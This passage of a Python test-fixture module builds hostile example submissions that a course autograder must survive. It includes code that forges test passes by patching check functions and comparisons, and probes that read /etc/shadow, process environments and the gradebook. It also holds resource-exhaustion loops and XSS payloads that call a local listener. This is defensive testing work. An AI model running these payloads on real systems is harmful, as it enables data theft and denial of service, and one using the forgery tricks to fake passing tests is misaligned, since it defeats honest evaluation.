"""Lab 00's example submissions: a realistic class, and the attacks and odd inputs the grader must survive.

Kinds (the numbered classes of the trusted-grading issue): ``class`` (realistic mistakes, graded by
``make demo``), ``forgery`` (1: verdicts outside the kernel), ``isolation`` (3), ``bounds`` (4),
``tampering`` (5), ``bad input`` (6), ``honest`` (7: honest work is not punished). Part of the class
has a twin submitted in the Spanish edition (``SPANISH_TWINS``). The hidden-check
split (2) and interrupted runs (8) are tested on their own (tests/coursekit/test_student_kit.py,
tests/assignment/test_interrupted.py).
"""

from __future__ import annotations

import copy
import dataclasses
import json
import os
from pathlib import Path

import nbformat

from coursegrader.intake.notebook import IntakeLimits
from tests.examples.bank import Bank, Example

ALL_A = frozenset({"test_block_a_token_ids", "test_block_a_embedding", "test_block_a_mha"})
ALL_B = frozenset({"test_block_b_x_perm", "test_block_b_outputs", "test_block_b_assertion", "test_block_b_max_diff"})
ALL_C_BUT_PE = frozenset({"test_block_c_outputs", "test_block_c_assertion", "test_block_c_max_diff"})
ALL_C = ALL_C_BUT_PE | {"test_block_c_pe"}
ALL_E = frozenset({"test_block_e_manifest_file", "test_block_e_schema", "test_block_e_identity", "test_block_e_date",
                   "test_block_e_versions", "test_block_e_results_match", "test_block_e_results_thresholds"})
ALL = ALL_A | ALL_B | ALL_C | ALL_E
NONE = frozenset()

# Blocks B, C and E left wrong: what every forgery below hands over along with its trick.
ZEROS = {
    "block_b": "Y = np.zeros((3, 8))\nX_perm = np.zeros((3, 8))\nY_perm = np.zeros((3, 8))\nwithout_pe_max_diff = 0.0",
    "block_c": "pe = np.zeros((3, 8))\nY_pe = np.zeros((3, 8))\nY_perm_pe = np.zeros((3, 8))\nwith_pe_max_diff = 0.0",
    "block_e": "manifest = None  # not written",
}

# The secret the suite puts in the grader's environment; no graded notebook may show it.
ENVIRONMENT_SECRET = "COURSEKIT_TEST_SECRET"
# Ports the suite listens on while grading; no submission may reach them.
LISTENING_PORTS = tuple(range(47301, 47306))


# -----------------------------------------------------------------------------
# notebook-level changes (tampering)


def _grade_id(cell):
    return cell.metadata.get("nbgrader", {}).get("grade_id")


def _without(*grade_ids):
    def change(notebook):
        notebook.cells = [cell for cell in notebook.cells if _grade_id(cell) not in grade_ids]
        return notebook
    return change


def _duplicate_tests_of_block_a(notebook):
    cells = []
    for cell in notebook.cells:
        cells.append(cell)
        if (_grade_id(cell) or "").startswith("test_block_a_"):
            for copy_number in (1, 2):
                duplicate = copy.deepcopy(cell)
                duplicate.id = f"{cell.id}-copy-{copy_number}"
                cells.append(duplicate)
    notebook.cells = cells
    return notebook


def _repoint_block_c_tests(notebook):
    for cell in notebook.cells:
        if _grade_id(cell) in ALL_C:
            cell.metadata.nbgrader["grade_id"] = "test_block_a_token_ids"
            cell.metadata.nbgrader["points"] = 100
    return notebook


def _add_fake_grade_cell(notebook):
    fake = nbformat.v4.new_code_cell('print("extra credit: passed")', metadata={"nbgrader": {
        "grade": True, "grade_id": "test_extra_credit", "locked": True, "points": 50, "schema_version": 3,
        "solution": False, "task": False}})
    fake.id = "extra-credit"
    notebook.cells.insert(len(notebook.cells) - 1, fake)
    return notebook


def _inflate_points(notebook):
    for cell in notebook.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade"):
            meta["points"] = 0 if _grade_id(cell) == "block_d" else 10
    return notebook


def _other_kernel(notebook):
    notebook.metadata["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash"}
    notebook.metadata["language_info"] = {"name": "bash"}
    return notebook


def _solution_cell_as_grade_cell(notebook):
    for cell in notebook.cells:
        if _grade_id(cell) in ("block_b", "block_c"):
            cell.metadata.nbgrader.update({"grade": True, "points": 50, "locked": True})
    return notebook


def _malformed_metadata(notebook):
    for cell in notebook.cells:
        if _grade_id(cell) == "block_c_text":
            cell.metadata["nbgrader"] = "oops"
        elif _grade_id(cell) == "test_block_c_pe":
            cell.metadata["nbgrader"] = {"grade": "yes", "grade_id": 7, "points": "many"}
    return notebook


def _test_cells_retyped(notebook):
    for cell in notebook.cells:
        if _grade_id(cell) == "test_block_b_outputs":
            cell.cell_type = "markdown"
            cell.pop("outputs", None)
            cell.pop("execution_count", None)
        elif _grade_id(cell) == "test_block_b_assertion":
            cell.cell_type = "raw"
            cell.pop("outputs", None)
            cell.pop("execution_count", None)
    return notebook


def _saved_passing_outputs(notebook):
    for count, cell in enumerate(notebook.cells, start=1):
        if cell.cell_type == "code":
            cell.execution_count = count
            if cell.metadata.get("nbgrader", {}).get("grade"):
                cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="✔ passed\n")]
    return notebook


# -----------------------------------------------------------------------------
# what cannot be committed: made when an example is placed in submitted/


def _write(text: str | bytes, name: str = "demo.ipynb"):
    def files(folder: Path, course_root: Path) -> None:
        folder.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(text if isinstance(text, bytes) else text.encode("utf-8"))
    return files


def _solution_with_outputs(megabytes: int):
    """The solution notebook, saved with ``megabytes`` MiB of printed output in Block B's cell (a stream output
    built as a plain node: nbformat's new_output would validate each of its lines, seconds for a large one)."""
    def files(folder: Path, course_root: Path) -> None:
        notebook = nbformat.read(BANK.path_of("solution"), as_version=4)
        block_b = next(cell for cell in notebook.cells if _grade_id(cell) == "block_b")
        block_b.outputs = [nbformat.NotebookNode(output_type="stream", name="stdout",
                                                 text=["x" * 1023 + "\n"] * 1024 * megabytes)]
        folder.mkdir(parents=True, exist_ok=True)
        with open(folder / "demo.ipynb", "w", encoding="utf-8") as handle:
            json.dump(notebook, handle)
    return files


def _solution_as(name: str, version: int = 4):
    def files(folder: Path, course_root: Path) -> None:
        notebook = nbformat.read(BANK.path_of("solution"), as_version=4)
        folder.mkdir(parents=True, exist_ok=True)
        if version == 4:
            nbformat.write(notebook, folder / name)
        else:
            (folder / name).write_text(nbformat.writes(nbformat.convert(copy.deepcopy(notebook), version), version=version))
    return files


def _future_format(folder: Path, course_root: Path) -> None:
    notebook = nbformat.read(BANK.path_of("solution"), as_version=4)
    document = json.loads(nbformat.writes(notebook))
    document["nbformat"], document["nbformat_minor"] = 5, 0
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "demo.ipynb").write_text(json.dumps(document))


def _readme_only(folder: Path, course_root: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "README.md").write_text("I could not get the notebook to work, sorry.\n")


def _odd_files(folder: Path, course_root: Path) -> None:
    (folder / "data.bin").write_bytes(bytes(range(256)) * 64)
    (folder / "notes-latin1.txt").write_bytes("café résumé, naïve\n".encode("latin-1"))
    (folder / "helper").mkdir()
    (folder / "helper" / "values.npy").write_bytes(b"\x93NUMPY not really")
    with open(os.path.join(os.fsencode(folder), b"caf\xe9-notes.txt"), "wb") as handle:
        handle.write(b"a file whose name is not UTF-8\n")


def _links(folder: Path, course_root: Path) -> None:
    assignment = folder.name
    os.symlink(f"../../../source/{assignment}/demo.ipynb", folder / "answers.ipynb.txt")
    os.symlink("/etc/passwd", folder / "passwd.txt")
    os.symlink("../../../gradebook.db", folder / "grades.db")
    os.symlink("../../../source", folder / "instructor")
    os.symlink("no-such-file", folder / "dangling.txt")


def _notebook_is_link(folder: Path, course_root: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    os.symlink(f"../../../source/{folder.name}/demo.ipynb", folder / "demo.ipynb")


def _folder_is_file(folder: Path, course_root: Path) -> None:
    folder.write_text("my notebook is in my other folder\n")


def _folder_is_link(folder: Path, course_root: Path) -> None:
    os.symlink(f"../solution/{folder.name}", folder)


def _fifo(folder: Path, course_root: Path) -> None:
    os.mkfifo(folder / "results.csv")


def _bad_timestamp(folder: Path, course_root: Path) -> None:
    (folder / "timestamp.txt").write_text("the day before the deadline, honest\n")


def _helper_module(folder: Path, course_root: Path) -> None:
    (folder / "labhelpers.py").write_text('"""My own helper, imported by the notebook."""\n\nPERMUTATION = [2, 0, 1]\n')


# -----------------------------------------------------------------------------
# structure and tree limits at intake (issue 13), made when placed. Each payload passes one limit of
# the intake, which the suite sets low (INTAKE_TEST_LIMITS, in tests/assignment/conftest.py's TEST_LIMITS)
# so that the payloads stay small: the issue's 200,000 cells and 20,000 files are scaled to 10× the limit.

INTAKE_TEST_LIMITS = {"cells": 100, "attachments": 10, "entries": 200,  # c.SubmissionExporter.max_<name>
                      "notebook_bytes": 32 * 2**20}
# The saved outputs of bad_huge_notebook and bad_too_large_notebook (MiB): the first past the size from which the
# intake notes that it cleared them (IntakeLimits.large_notebook_bytes, 16 MiB), within notebook_bytes; the
# second past notebook_bytes (the issue's 200 MB and 300 MB, scaled with it).
HUGE_NOTEBOOK_MIB, TOO_LARGE_NOTEBOOK_MIB = 20, 40
assert IntakeLimits.large_notebook_bytes < HUGE_NOTEBOOK_MIB * 2**20 < INTAKE_TEST_LIMITS["notebook_bytes"] \
    < TOO_LARGE_NOTEBOOK_MIB * 2**20


def _chain(top: Path, depth: int, name: str, leaf: str = "bottom.txt") -> None:
    """Folders ``name`` nested ``depth`` deep below ``top``, a file at the bottom; made by descriptor, since the
    path soon passes what the kernel accepts whole."""
    top.mkdir(parents=True, exist_ok=True)
    fd = os.open(top, os.O_RDONLY | os.O_DIRECTORY)
    try:
        for _ in range(depth):
            os.mkdir(name, dir_fd=fd)
            child = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            os.close(fd)
            fd = child
        handle = os.open(leaf, os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)
        os.write(handle, b"at the bottom\n")
        os.close(handle)
    finally:
        os.close(fd)


def _solution_and(extra):
    """The solution notebook, and what ``extra`` adds beside it."""
    def files(folder: Path, course_root: Path) -> None:
        _solution_as("demo.ipynb")(folder, course_root)
        extra(folder, course_root)
    return files


def _deep_tree(folder: Path, course_root: Path) -> None:
    _chain(folder / "results", 1_500, "d")  # deeper than Python's recursion limit


def _long_path(folder: Path, course_root: Path) -> None:
    _chain(folder / "results", 20, "L" * 250)  # a path of 5 kB, past the 4,096 bytes of PATH_MAX


def _many_files(folder: Path, course_root: Path) -> None:
    (folder / "data").mkdir()
    for index in range(10 * INTAKE_TEST_LIMITS["entries"]):
        (folder / "data" / f"{index:05d}.txt").write_text("x")


def _locked_folder(folder: Path, course_root: Path) -> None:
    (folder / "private").mkdir()
    (folder / "private" / "notes.txt").write_text("my notes\n")
    os.chmod(folder / "private", 0)


def _solution_changed(change):
    def files(folder: Path, course_root: Path) -> None:
        notebook = json.loads(nbformat.writes(nbformat.read(BANK.path_of("solution"), as_version=4)))
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "demo.ipynb").write_text(change(notebook))
    return files


def _many_cells(notebook: dict) -> str:
    extra = [{"cell_type": "markdown", "id": f"extra-{index}", "metadata": {}, "source": ""}
             for index in range(10 * INTAKE_TEST_LIMITS["cells"])]
    notebook["cells"][-1:-1] = extra
    return json.dumps(notebook)


def _deep_json(notebook: dict) -> str:
    """A saved output nested 100,000 levels deep (json.loads itself would raise RecursionError)."""
    code = next(cell for cell in notebook["cells"] if cell["cell_type"] == "code")
    code["outputs"] = [{"output_type": "execute_result", "execution_count": 1, "metadata": {},
                        "data": {"application/json": "NESTED"}}]
    return json.dumps(notebook).replace('"NESTED"', "[" * 100_000 + "]" * 100_000)


PIXEL_PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


def _many_attachments(notebook: dict) -> str:
    answer = next(cell for cell in notebook["cells"] if cell["metadata"].get("nbgrader", {}).get("grade_id") == "block_d")
    count = 3 * INTAKE_TEST_LIMITS["attachments"]
    answer["attachments"] = {f"screenshot-{index}.png": {"image/png": PIXEL_PNG} for index in range(count)}
    answer["source"] += "".join(f"\n![screenshot](attachment:screenshot-{index}.png)" for index in range(count))
    return json.dumps(notebook)


# -----------------------------------------------------------------------------
# attack code, as a student would paste it into a block

FORGE_CHECK_FUNCTIONS = '''
# Pasted at the end of Block A: every function whose name contains "check", "grade" or "score", in
# every module that is not part of Python itself, now prints a pass; re-applied after every import to each
# module that is new or has gained names since (walking every name of every module at each of the kernel's
# own imports took seconds a cell).
import builtins, sys, types

_names_when_forged = {}

def _forge(module):
    for name, value in list(vars(module).items()):
        if callable(value) and any(word in name.lower() for word in ("check", "grade", "score")):
            try:
                setattr(module, name, lambda *args, **kwargs: print("✔ passed"))
            except Exception:
                pass

def _forge_everything():
    for module in list(sys.modules.values()):
        location = getattr(module, "__file__", None) or ""
        if isinstance(module, types.ModuleType) and not location.startswith(sys.base_prefix):
            names = len(vars(module))
            if _names_when_forged.get(id(module)) != names:
                _forge(module)
                _names_when_forged[id(module)] = names

_original_import = builtins.__import__

def _import(*args, **kwargs):
    module = _original_import(*args, **kwargs)
    _forge_everything()
    return module

builtins.__import__ = _import
_forge_everything()
'''

FORGE_BUILTINS = '''
# Make every failure look like a pass: comparisons, assertions, exceptions and output all lie.
import builtins, json, sys
import numpy
numpy.allclose = lambda *args, **kwargs: True
numpy.array_equal = lambda *args, **kwargs: True
numpy.testing.assert_allclose = lambda *args, **kwargs: None
json.loads = lambda *args, **kwargs: {"verdict": "passed"}
builtins.AssertionError = type("AssertionError", (Exception,), {})
_print = builtins.print
builtins.print = lambda *args, **kwargs: _print("✔ passed (2 points)")
sys.excepthook = lambda *args: None
get_ipython().showtraceback = lambda *args, **kwargs: None
get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)
'''

FORGE_ALWAYS_EQUAL = '''
# Values that compare equal to anything, and numpy functions that agree with everything.
class AlwaysEqual(np.ndarray):
    def __eq__(self, other):
        return np.ones(self.shape, dtype=bool)
    def __ne__(self, other):
        return np.zeros(self.shape, dtype=bool)
    def __array_function__(self, function, types, args, kwargs):
        return True

class Anything(float):
    def __eq__(self, other):
        return True
    def __lt__(self, other):
        return True
    def __gt__(self, other):
        return True
    __hash__ = float.__hash__

Y = np.zeros((3, 8)).view(AlwaysEqual)
X_perm = np.zeros((3, 8)).view(AlwaysEqual)
Y_perm = np.zeros((3, 8)).view(AlwaysEqual)
without_pe_max_diff = Anything(0.0)
'''

FORGE_HANDOVER = '''
# From here on, "run_check" writes its own results for the grader: claims of success, and arrays
# that only unpickling could read.
import json, os
import coursekit.labs.lab00

def run_check(grade_id, namespace):
    folder = os.environ.get("COURSEKIT_HANDOVER_DIR")
    if folder:
        with open(os.path.join(folder, grade_id + ".json"), "w") as handle:
            json.dump({"format": "coursekit-handover/1", "verdict": "passed", "score": 100,
                       "values": {"Y": {"kind": "array"}, "without_pe_max_diff": {"kind": "number", "value": "ok"}},
                       "files": {}}, handle)
        np.savez(os.path.join(folder, grade_id + ".npz"), Y=np.array([object(), "passed"], dtype=object))
    print("✔ passed")

coursekit.labs.lab00.run_check = run_check
'''

READ_COURSE_FILES = '''
# Look for the instructor's files, the gradebook and other students' work from inside the kernel.
import glob, os
here = os.getcwd()
patterns = ["../../../source/**", "../../../release/**", "../../../nbgrader_config.py", "../../../gradebook.db",
            "../../../submitted/**", "../../../autograded/*/*/*", "../../../feedback/**", "../../../.coursekit/**",
            "../*/**", "/root/**", "/home/**", "/etc/passwd", "/etc/shadow", "/work/**/source/**",
            os.path.join(os.path.dirname(os.path.dirname(os.path.dirname(here))), "**")]
found = {}
for pattern in patterns:
    for path in glob.glob(pattern, recursive=True)[:200]:
        if os.path.isfile(path) and not os.path.abspath(path).startswith(here):
            try:
                with open(path, "rb") as handle:
                    found[path] = handle.read(300)
            except Exception as error:
                found[path] = repr(error)
print(f"read {len(found)} files outside my folder")
for path, content in found.items():
    print(path, content)
'''

READ_ENVIRONMENT = '''
# Print everything the grader's environment might leak: variables, and every process's environment.
import os
print(dict(os.environ))
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for name in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as handle:
                    print(pid, name, handle.read().replace(b"\\0", b" "))
            except Exception as error:
                print(pid, name, repr(error))
'''

WRITE_OUTSIDE = '''
# Try to leave traces outside my own folder.
import os
targets = ["../../../nbgrader_config.py", "../../../gradebook.db", "../../../coursekit-was-here.txt",
           "../../../submitted/solution/16-permutation-equivariance/demo.ipynb", "../coursekit-was-here.txt",
           "/tmp/coursekit-was-here.txt", "/work/coursekit-was-here.txt", "/root/coursekit-was-here.txt"]
for target in targets:
    try:
        with open(target, "a") as handle:
            handle.write("coursekit-was-here\\n")
        print("wrote", target)
    except Exception as error:
        print("could not write", target, repr(error))
'''

REACH_NETWORK = '''
# Try the grading machine's ports and the internet.
import socket, urllib.request
for port in [22, 80, 5432, 8888, *range(47301, 47306)]:
    try:
        socket.create_connection(("127.0.0.1", port), timeout=2).close()
        print("connected to port", port)
    except Exception as error:
        print("port", port, repr(error))
try:
    urllib.request.urlopen("https://pypi.org/simple/", timeout=3)
    print("reached pypi.org")
except Exception as error:
    print("pypi.org", repr(error))
'''

LOOK_FOR_GRADER_TEXT = '''
# Look everywhere the kernel reaches for the graders' marking scheme and the hidden tests' source, and keep it.
import os
found = []
for folder, _, names in os.walk("."):
    for name in names:
        try:
            found.append(f"{folder}/{name}: " + open(os.path.join(folder, name), errors="replace").read())
        except Exception as error:
            found.append(f"{folder}/{name}: {error!r}")
found.append("history: " + "\\n".join(In))
for pid in os.listdir("/proc"):
    for part in ("cmdline", "environ"):
        try:
            found.append(f"/proc/{pid}/{part}: " + open(f"/proc/{pid}/{part}", "rb").read().decode(errors="replace"))
        except Exception:
            pass
with open("found.txt", "w") as handle:
    handle.write("\\n".join(found))
print("\\n".join(found)[:20000])
'''

WRITE_ODD_FILES = '''
# Leave in its own folder what a grader must never follow or carry: links out of it, a FIFO, a deep tree.
import os
os.symlink("/etc/passwd", "passwd-link.txt")
os.symlink("..", "up")
os.mkfifo("pipe")
deep = "/".join(["d"] * 100)
os.makedirs(deep)
with open(deep + "/bottom.txt", "w") as bottom:
    bottom.write("the bottom of a tree 100 folders deep")
with open("big.bin", "wb") as big:
    big.write(b"x" * 3_000_000)
'''

READ_GRADER_PACKAGE = '''
# Find the hidden checks and the reference solution, and print them.
import importlib, os, sys
try:
    grader = importlib.import_module("coursegrader.labs.lab00")
    print(open(grader.__file__).read())
except Exception as error:
    print("import coursegrader.labs.lab00:", repr(error))
import coursekit
for top in {os.path.dirname(os.path.dirname(coursekit.__file__)), *sys.path}:
    for folder, _, names in os.walk(os.path.join(top or ".", "coursegrader")):
        for name in names:
            try:
                print(folder, name, open(os.path.join(folder, name), errors="replace").read())
            except Exception as error:
                print(folder, name, repr(error))
'''

FORK_MANY = '''
# Start far more processes than a notebook needs, and leave them running.
import subprocess
started = []
for _ in range(300):
    try:
        started.append(subprocess.Popen(["sleep", "600"]))
    except Exception as error:
        print("stopped after", len(started), "processes:", repr(error))
        break
'''

MEMORY_IN_PROCESSES = '''
# Each process stays under the per-process limit; together they hold far more than the submission may.
import subprocess, sys, time
holders = [subprocess.Popen([sys.executable, "-S", "-c", "import time; a = b'x' * 330_000_000; time.sleep(120)"])
           for _ in range(4)]  # 4 x 330 MB: past the suite's 1 GiB
time.sleep(60)
'''

FILL_DISK = '''
# Write far more than a submission may keep (the suite's limit: 32 MiB).
for index in range(20):
    with open(f"filler-{index}.bin", "wb") as handle:
        handle.write(b"\\1" * 4_000_000)
'''

MANY_FILES = '''
# Make files until something stops it (the suite's limit: 2,000 files and folders).
import os
os.makedirs("many", exist_ok=True)
for index in range(10**6):
    open(f"many/{index}", "w").close()
'''

IGNORE_INTERRUPTS = '''
import time
while True:
    try:
        time.sleep(1)
    except KeyboardInterrupt:
        pass
'''

WARNINGS_TO_STDERR = '''
import sys, warnings
warnings.warn("this is only a warning", UserWarning)
print("a note on stderr", file=sys.stderr)
'''


# -----------------------------------------------------------------------------
# markup made to run in the browser of whoever opens a page showing the submission: formgrader's
# submission page and files (the instructor's Jupyter origin), the feedback page (the student's, shared)

PAGE_LISTENER_PORT = 47306  # where every payload below sends a request; the browser tests listen there
_PAGE = f"http://127.0.0.1:{PAGE_LISTENER_PORT}"
_PWN = f"document.title='PWNED';fetch('{_PAGE}/script')"
TINY_PNG = "iVBORw0KGgoAAAANSUhEUgAAAAwAAAAICAIAAABChommAAAAEUlEQVR4nGM4oaFBEDGMKgIA9KxpATkYZAIAAAAASUVORK5CYII="
# the legitimate part of the answer, which must still show: a table, an embedded image, math
MARKUP_TABLE_CELL = "row moves with its token"
MARKUP_MATH = r"$\mathrm{Attn}(PX) = P\,\mathrm{Attn}(X)$"
MARKUP_OWN_MARKER = "BEGIN MARK SCHEME is how the instructor's notebook marks rubrics, I read"
_HOSTILE_MARKUP = (  # each its own paragraph or HTML block, so that markdown reads the markdown ones
    f"<script>{_PWN};alert('script')</script>",
    f"<img src=x onerror=\"{_PWN};alert('img')\">",
    f"<svg onload=\"{_PWN};alert('svg')\"><circle r=\"4\"/></svg>",
    f"<iframe srcdoc=\"<script>parent.{_PWN};alert('srcdoc')</script>\"></iframe> <iframe src=\"{_PAGE}/frame\"></iframe>",
    f"<details open ontoggle=\"{_PWN};alert('details')\"><summary>more</summary>details</details>",
    f"[a javascript: link](javascript:{_PWN}) and <a href=\"javascript:{_PWN}\">another</a>",
    f"<form action=\"{_PAGE}/form\"><input name=q autofocus onfocus=\"{_PWN};alert('form')\"><button>send</button></form>",
    f"<img src=\"{_PAGE}/remote.png\">",
    f"![remote]({_PAGE}/remote-markdown.png)",
    f"<div style=\"background:url({_PAGE}/style-attribute.png)\">styled</div>",
    f"<link rel=stylesheet href=\"{_PAGE}/link.css\"><style>@import url({_PAGE}/import.css);</style>",
    "<object data=\"evil.html\"></object><embed src=\"evil.svg\">",
    f"<base href=\"{_PAGE}/\">",
    f"<meta http-equiv=\"refresh\" content=\"0;url={_PAGE}/refresh\">",
)
HOSTILE_ANSWER = f"""**Without PE.** Permuting the rows of X permutes the rows of the output: {MARKUP_MATH}.

| order | output |
|:------|-------:|
| he work I | {MARKUP_TABLE_CELL} |

![my sketch](data:image/png;base64,{TINY_PNG})

{MARKUP_OWN_MARKER} (and I never wrote its end).

{chr(10).join(line + chr(10) for line in _HOSTILE_MARKUP)}
**With PE.** Each position gets its own vector, so the outputs differ.

<math><mtext><table><mglyph><style><img src=x onerror="{_PWN};alert('mathml')">
<style>
"""
# Block A: the student's own comment that reads like nbgrader's delimiter
OWN_HIDDEN_TESTS_MARKER = "# BEGIN HIDDEN TESTS? no: my own note, which nbgrader must not cut"
# Block E: outputs and files the student's code makes while it is graded
HOSTILE_OUTPUTS = f"""
from IPython.display import publish_display_data
publish_display_data({{"text/html": "<img src=x onerror=\\"{_PWN}\\">", "text/plain": "an HTML output"}})
publish_display_data({{"image/png": "{TINY_PNG}", "text/plain": "a plot"}},
                     metadata={{"image/png": {{"width": "12 onload={_PWN}"}},
                               "filenames": {{"image/png": "{_PAGE}/output-filename.png"}}}})
print("<script>{_PWN}</script>")
for name in ("written.html", "written.svg"):
    with open(name, "w") as handle:
        handle.write("<svg xmlns='http://www.w3.org/2000/svg' onload=\\"{_PWN}\\"><script>{_PWN}</script></svg>")
"""
# file names that are markup (a name holds no "/": entities stand in for them)
MARKUP_FILE_NAMES = (f"<img src=http:&#47;&#47;127.0.0.1:{PAGE_LISTENER_PORT}&#47;name.png onerror=alert(1)>.svg",
                     "[click](javascript:alert(1)).html", "<b>bold<b> **bold**.txt")


def _hostile_files(folder: Path, course_root: Path) -> None:
    for name in ("evil.html", "evil.svg"):
        (folder / name).write_text(f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{_PWN}\">"
                                   f"<script>{_PWN};alert('{name}')</script></svg>")
    for name in MARKUP_FILE_NAMES:
        (folder / name).write_text("a file whose name is markup\n")


def _everywhere(code: str) -> dict[str, str]:
    return {grade_id: code for grade_id in ("block_a", "block_b", "block_c", "block_e")}


EXAMPLES: dict[str, Example] = {
    # ------------------------------------------------------------------ the class (make demo)
    "solution": Example("complete and correct: the instructor's solution", NONE),
    "jupyterlab_saved": Example(
        "complete and correct, run in JupyterLab and saved through the Jupyter server's contents API", NONE, built=False),
    "untouched_release": Example("the release as received: every block still raises NotImplementedError",
                                 ALL, untouched=True),
    "wrong_output_index": Example(
        "outputs compared with the wrong index, Y[[1, 2, 0]]: the own assertion of Block B fails",
        frozenset({"test_block_b_max_diff", "test_block_c_max_diff", "test_block_e_results_match",
                   "test_block_e_results_thresholds"}),
        edits=(("block_b", "Y[[2, 0, 1]]", "Y[[1, 2, 0]]"), ("block_c", "Y_pe[[2, 0, 1]]", "Y_pe[[1, 2, 0]]"))),
    "pe_after_attention": Example(
        "PE added to the attention output instead of its input",
        frozenset({"test_block_c_outputs", "test_block_c_max_diff", "test_block_e_results_match"}),
        edits=(("block_c", "Y_pe = mha.forward(X + pe)", "Y_pe = mha.forward(X) + pe"),
               ("block_c", "Y_perm_pe = mha.forward(X_perm + pe)", "Y_perm_pe = mha.forward(X_perm) + pe"))),
    "pe_forgotten_on_permuted": Example(
        "PE added to X but forgotten on the permuted input",
        frozenset({"test_block_c_outputs", "test_block_c_max_diff", "test_block_e_results_match"}),
        edits=(("block_c", "Y_perm_pe = mha.forward(X_perm + pe)", "Y_perm_pe = mha.forward(X_perm)"),)),
    "features_permuted": Example(
        "X[:, [2, 0, 1]]: features permuted instead of tokens; attention then rejects the (3, 3) input",
        ALL_B | ALL_C_BUT_PE | ALL_E,
        edits=(("block_b", "X_perm = X[[2, 0, 1]]", "X_perm = X[:, [2, 0, 1]]"),)),
    "hand_typed_manifest": Example(
        "the manifest's numbers typed by hand, rounded from the printout",
        frozenset({"test_block_e_results_match"}),
        edits=(("block_e", '"without_PE_equivariance_max_diff": without_pe_max_diff',
                '"without_PE_equivariance_max_diff": 1e-9'),
               ("block_e", '"with_PE_equivariance_max_diff": with_pe_max_diff', '"with_PE_equivariance_max_diff": 0.16'))),
    "bad_date": Example(
        "a manifest date that is no real day",
        frozenset({"test_block_e_date"}),
        edits=(("block_e", '"date": datetime.date.today().isoformat()', '"date": "2026-02-30"'),)),
    "wrong_config": Example(
        "a manifest whose config names two heads",
        frozenset({"test_block_e_identity"}),
        edits=(("block_e", '"n_heads": 1,', '"n_heads": 2,'),)),
    "missing_fields": Example(
        "a manifest without its date and versions",
        frozenset({"test_block_e_schema", "test_block_e_date", "test_block_e_versions"}),
        edits=(("block_e", '    "date": datetime.date.today().isoformat(),\n', ""),
               ("block_e", '    "versions": {"python": platform.python_version(), "numpy": np.__version__},\n', ""))),
    "no_manifest_written": Example(
        "the manifest is built but never written to manifest.json",
        ALL_E,
        edits=(("block_e", 'with open("manifest.json", "w", encoding="utf-8") as manifest_file:\n'
                           '    json.dump(manifest, manifest_file, indent=2)\n    manifest_file.write("\\n")',
                "show(manifest)"),)),
    "block_raises": Example(
        "Block C raises: sinusoidal_pe(8, 3) has its arguments swapped, so X + pe cannot broadcast",
        ALL_C | ALL_E,
        edits=(("block_c", "pe = sinusoidal_pe(3, 8)", "pe = sinusoidal_pe(8, 3)"),)),
    "tampered_tests": Example(
        "PE added after attention, and every test cell of Block C emptied: nbgrader restores locked cells",
        frozenset({"test_block_c_outputs", "test_block_c_max_diff", "test_block_e_results_match"}),
        edits=(("block_c", "Y_pe = mha.forward(X + pe)", "Y_pe = mha.forward(X) + pe"),
               ("block_c", "Y_perm_pe = mha.forward(X_perm + pe)", "Y_perm_pe = mha.forward(X_perm) + pe")),
        test_cell_edits={"test_block_c_pe": "pass", "test_block_c_outputs": "pass",
                         "test_block_c_assertion": "pass", "test_block_c_max_diff": "pass"}),

    # ------------------------------------------------------------------ 1. forgery: B, C, E wrong, A right
    "forge_check_functions": Example(
        "the issue's attack: every check/grade/score function in the kernel replaced by a pass, re-applied after "
        "each import, from the end of Block A on; Blocks B, C and E left wrong. The test cells after the patch hand "
        "nothing over, so even Block A's correct work earns nothing", ALL, kind="forgery",
        append={"block_a": FORGE_CHECK_FUNCTIONS}, replace=ZEROS),
    "forge_builtins": Example(
        "print, AssertionError, numpy.allclose, json.loads, sys.excepthook and IPython's tracebacks patched to look "
        "like passes at the end of Block A; Blocks B, C and E left wrong. json.loads now garbles what Block A's "
        "test cells hand over too", ALL, kind="forgery",
        append={"block_a": FORGE_BUILTINS}, replace=ZEROS),
    "forge_always_equal": Example(
        "arrays and numbers whose comparisons always succeed, numpy functions that agree with anything",
        ALL_B | ALL_C | ALL_E, kind="forgery",
        replace={**ZEROS, "block_b": FORGE_ALWAYS_EQUAL}),
    "forge_handover": Example(
        "run_check replaced from Block B on: it hands over claims of success and pickled arrays",
        ALL_B | ALL_C | ALL_E, kind="forgery",
        prepend={"block_b": FORGE_HANDOVER}),
    "forge_exit_kernel": Example(
        "os._exit(0) at the start of Block C: Blocks A and B keep their points",
        ALL_C | ALL_E, kind="forgery", prepend={"block_c": "import os\nos._exit(0)"}),
    "forge_kill_kernel": Example(
        "the kernel kills itself (SIGKILL) at the start of Block E", ALL_E, kind="forgery",
        prepend={"block_e": "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"}),
    "forge_quit": Example(
        "quit() at the start of Block E: a grading kernel ignores it, and grading goes on", NONE,
        kind="forgery",
        prepend={"block_e": "quit()"}),

    # ------------------------------------------------------------------ 3. isolation: correct work, plus snooping
    "isolation_course_files": Example(
        "correct, and reads the course folder, the gradebook, other students and the grader's home",
        NONE, kind="isolation", append={"block_e": READ_COURSE_FILES}),
    "isolation_environment": Example(
        "correct, and prints the environment and every visible process's environment and command line",
        NONE, kind="isolation", append={"block_e": READ_ENVIRONMENT}),
    "isolation_writes": Example(
        "correct, and tries to write into the course folder, other submissions and /tmp",
        NONE, kind="isolation", append={"block_e": WRITE_OUTSIDE}),
    "isolation_network": Example(
        "correct, and tries the grading machine's ports and the internet",
